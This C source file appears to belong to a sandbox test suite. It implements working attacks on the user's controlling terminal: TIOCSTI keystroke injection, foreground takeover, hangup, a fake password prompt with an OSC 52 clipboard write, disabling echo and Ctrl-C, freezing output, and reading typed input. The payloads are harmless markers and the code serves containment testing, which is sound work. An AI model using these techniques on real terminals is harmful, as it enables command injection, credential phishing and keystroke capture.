/* The terminal of whoever started the run: what is shown and typed there, its settings. */
#include <asm/termbits.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "hostile.h"

enum { kMostTerminals = 3 };

/* By the standard input, by the name of every process's own terminal, and by its name among all,
 * which the run's neighbour "terminal" tells. */
static int open_terminals(const struct Attack* attack, int flags, int* fds) {
  char name[256];
  int count = 0;
  fds[count++] = STDIN_FILENO;
  int fd = open("/dev/tty", flags | O_NOCTTY | O_NONBLOCK);
  if (fd >= 0) fds[count++] = fd;
  FILE* file = fopen(in_folder(attack, "../terminal"), "r");
  if (file == NULL) return count;
  if (fscanf(file, "%255s", name) == 1) {
    fd = open(name, flags | O_NOCTTY | O_NONBLOCK);
    if (fd >= 0) fds[count++] = fd;
  }
  fclose(file);
  return count;
}

/* One call to each of them, with which opening for reading is enough. */
static void control_terminals(const struct Attack* attack, unsigned long what, void* argument) {
  int fds[kMostTerminals];
  const int count = open_terminals(attack, O_RDONLY, fds);
  for (int i = 0; i < count; ++i) ioctl(fds[i], what, argument);
}

/* Types into the terminal. */
static void type_into_terminal(struct Attack* attack) {
  char letters[] = "echo typed\n";
  for (char* letter = letters; *letter != '\0'; ++letter) {
    control_terminals(attack, TIOCSTI, letter);
  }
}

/* Makes itself the terminal's foreground. */
static void take_terminal(struct Attack* attack) {
  signal(SIGTTOU, SIG_IGN);
  setpgid(0, 0);
  pid_t self = getpid();
  control_terminals(attack, TIOCSPGRP, &self);
}

/* Hangs the terminal up. */
static void hang_up_terminal(struct Attack* attack) {
  (void)attack;
  syscall(SYS_vhangup);
}

/* Another title, an empty screen, a question, and what is to be in the clipboard. */
static void write_to_terminal(struct Attack* attack) {
  const char* const words = "\033]0;title\007\033[2J\033[HPassword: \033]52;c;ZXZpbAo=\007";
  int fds[kMostTerminals];
  const int count = open_terminals(attack, O_WRONLY, fds);
  for (int i = 0; i < count; ++i) (void)!write(fds[i], words, strlen(words));
}

/* No echo and no Ctrl-C any more, by every call that there is for it. */
static void change_terminal(struct Attack* attack) {
  struct termios2 settings;
  memset(&settings, 0, sizeof settings);
  control_terminals(attack, TCGETS2, &settings);
  settings.c_lflag &= ~(unsigned)(ISIG | ECHO | ICANON);
  control_terminals(attack, TCSETS2, &settings);
  control_terminals(attack, TCSETSW2, &settings);
  struct termios old;
  memset(&old, 0, sizeof old);
  control_terminals(attack, TCSETS, &old);
}

/* Nothing is shown any more; who prints waits for ever. */
static void freeze_terminal(struct Attack* attack) {
  control_terminals(attack, TCXONC, (void*)TCOOFF);
}

/* Reads what is typed. */
static void read_terminal(struct Attack* attack) {
  char typed[64];
  int fds[kMostTerminals];
  const int count = open_terminals(attack, O_RDONLY, fds);
  for (int i = 0; i < count; ++i) {
    fcntl(fds[i], F_SETFL, O_NONBLOCK);
    if (read(fds[i], typed, sizeof typed) > 0) tell_success(attack, "it has read what was typed");
  }
}

const struct Way kTerminalWays[] = {{"type_into_terminal", AT_CALL, type_into_terminal},
                                    {"take_terminal", AT_CALL, take_terminal},
                                    {"hang_up_terminal", AT_CALL, hang_up_terminal},
                                    {"write_to_terminal", AT_CALL, write_to_terminal},
                                    {"change_terminal", AT_CALL, change_terminal},
                                    {"freeze_terminal", AT_CALL, freeze_terminal},
                                    {"read_terminal", AT_CALL, read_terminal},
                                    {NULL, AT_CALL, NULL}};
